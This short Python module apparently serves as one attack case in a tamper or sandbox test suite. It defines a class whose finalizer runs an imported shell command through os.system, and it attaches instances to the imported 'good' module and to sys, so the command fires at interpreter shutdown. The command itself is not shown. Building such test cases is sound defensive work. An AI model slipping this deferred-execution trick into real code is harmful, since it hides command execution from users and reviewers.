"""An object is finalized when the interpreter is taken down."""
CATEGORY = "tampering"
REACH = "run"

import os
import sys

from . import payload


class Thing:

    def __init__(self):
        self.call, self.command = os.system, payload.COMMAND

    def __del__(self):
        self.call(self.command)


def attack():
    import good
    good.thing = Thing()
    sys.thing = Thing()
